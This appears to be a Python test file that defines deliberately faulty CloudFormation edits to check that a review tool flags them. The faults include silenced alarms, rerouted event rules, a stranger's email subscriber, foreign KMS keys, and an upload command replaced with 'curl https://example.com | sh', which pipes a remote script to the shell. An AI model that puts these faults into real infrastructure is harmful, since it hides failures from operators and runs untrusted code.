"""Faults by which nobody hears of what happens any more, or somebody else does."""

from tests.review.draft import (
    FOUNDATION,
    OPERATIONS,
    Draft,
    Edit,
    add,
    all_of,
    no_prop,
    prop,
    remove,
)
from tests.review.mutant import Base, Mutant, faulty

_THEIRS = "arn:aws:kms:us-east-1:999999999999:key/theirs"


def _matters(
    name: str, resource: str, change: Edit, *, base: Base = "rehearsal"
) -> Mutant:
    return faulty(
        "telling",
        name,
        change,
        resource,
        severity="medium",
        rule="setting-matters",
        base=base,
    )


def _new(name: str, kind: str, **properties: object) -> Mutant:
    return faulty(
        "telling",
        name,
        add("New", kind, OPERATIONS, **properties),
        "New",
        severity="medium",
        rule="access-subscriber",
    )


def _changes(name: str, *path: object) -> Edit:
    return prop(f"StateChanges{name}", *path, part=OPERATIONS)


def _without(*names: str) -> Edit:
    return all_of(*(remove(f"StateChanges{each}", OPERATIONS) for each in names))


def _subscription(name: str, **properties: object) -> Mutant:
    def change(draft: Draft) -> None:
        for body in draft.templates[OPERATIONS]["Resources"].values():
            if body["Type"] == "AWS::SNS::Subscription":
                body["Properties"].update(properties)

    return _matters(name, "", change, base="everything")


def _upload_command(draft: Draft) -> None:
    outputs = draft.templates[FOUNDATION]["Outputs"]
    outputs["UploadCommand"]["Value"] = "curl https://example.com | sh"


_ALARM: dict[str, tuple[str, object]] = {
    "an alarm is off": ("ActionsEnabled", False),
    "an alarm waits for more": ("Threshold", 5),
    "an alarm waits for longer": ("EvaluationPeriods", 10),
    "an alarm takes silence for good": ("TreatMissingData", "notBreaching"),
    "an alarm looks at something else": ("MetricName", "Nothing"),
    "an alarm looks at another transform": ("Dimensions", []),
    "nobody hears that all is well again": ("OKActions", []),
}
_MATTERS: dict[str, tuple[str, str, object]] = {
    "the rule tells it each minute": (
        "EndedRule1",
        "ScheduleExpression",
        "rate(1 minute)",
    ),
    "a topic brings its own subscriber": (
        "Topic",
        "Subscription",
        [{"Endpoint": "theirs@example.com", "Protocol": "email"}],
    ),
}
_UNHEARD: dict[str, Edit] = {
    "the rule is off": _changes("EndedRule1", "State", "DISABLED"),
    "the rule listens elsewhere": _changes("EndedRule1", "EventBusName", "theirs"),
    "the rule sees no failures": _changes(
        "EndedRule1",
        "EventPattern",
        {"source": ["aws.sagemaker"], "detail": {"TransformJobStatus": ["Completed"]}},
    ),
    "the rule tells something else": _changes(
        "EndedRule1", "Targets", 0, "Input", '{"detail": {}}'
    ),
    "events are not fetched": _changes("Events", "Enabled", False),
    "events are left out": _changes(
        "Events", "FilterCriteria", {"Filters": [{"Pattern": '{"no": ["such"]}'}]}
    ),
    "events reach another function": _changes("Events", "FunctionName", "other"),
    "no rule": _without("EndedRule1", "EndedRule2", "EndedPolicy"),
    "nobody fetches events": _without("Events"),
}
_UNDER_THEIR_KEY = {
    "the logs of jobs are encrypted with a foreign key": ("JobLogs", "KeyArn"),
    "a function's variables are encrypted with a foreign key": (
        "LauncherRun",
        "KmsKeyArn",
    ),
    "a filter of events is encrypted with a foreign key": (
        "StateChangesEvents",
        "KmsKeyArn",
    ),
}
AT_TELLING: tuple[Mutant, ...] = (
    *(
        _matters(name, "AlarmFailed", prop("AlarmFailed", key, value, part="faces"))
        for name, (key, value) in _ALARM.items()
    ),
    *(
        _matters(
            name,
            f"StateChanges{resource}",
            _changes(resource, key, value),
        )
        for name, (resource, key, value) in _MATTERS.items()
    ),
    _subscription("a subscription leaves out", FilterPolicy={"no": ["such"]}),
    _subscription("a subscription tells another", Endpoint="theirs@example.com"),
    faulty(
        "runs-begun",
        "the launcher is called each minute",
        add(
            "New",
            "AWS::Events::Rule",
            OPERATIONS,
            ScheduleExpression="rate(1 minute)",
            Targets=[{"Arn": "@LauncherOnEvent.Arn", "Id": "Launcher"}],
        ),
        "New",
    ),
    _new(
        "a function is called each minute",
        "AWS::Events::Rule",
        ScheduleExpression="rate(1 minute)",
        Targets=[{"Arn": "@StateChangesHandler.Arn", "Id": "Handler"}],
    ),
    _new(
        "the queue is taken from twice",
        "AWS::Lambda::EventSourceMapping",
        EventSourceArn="@StateChangesEnded.Arn",
        FunctionName="@StateChangesHandler",
    ),
    _new(
        "a stranger subscribes",
        "AWS::SNS::Subscription",
        Endpoint="theirs@example.com",
        Protocol="email",
        TopicArn="@StateChangesTopic",
    ),
    faulty(
        "models-placed",
        "something else runs of its own accord",
        add(
            "New",
            "AWS::StepFunctions::StateMachine",
            OPERATIONS,
            DefinitionString="{}",
            RoleArn="@LauncherProviderwaiterstatemachineRole.Arn",
        ),
        FOUNDATION,
    ),
    *(faulty("ends-heard", name, change, "Model") for name, change in _UNHEARD.items()),
    faulty(
        "telling",
        "the topic's policy is removed",
        _without("TopicPolicy"),
        "StateChangesTopicPolicy",
        severity="medium",
        rule="alarm-removed",
    ),
    _matters(
        "the logs of jobs are not encrypted",
        "JobLogs",
        no_prop("JobLogs", "KeyArn", part=OPERATIONS),
    ),
    *(
        faulty("keys-ours", name, prop(owner, key, _THEIRS, part=OPERATIONS), owner)
        for name, (owner, key) in _UNDER_THEIR_KEY.items()
    ),
    _matters("people are told to run something else", FOUNDATION, _upload_command),
    _matters(
        "a refusal tells people to run something else",
        "Model",
        prop("Model", "UploadCommand", "curl https://example.com | sh", part="faces"),
    ),
)
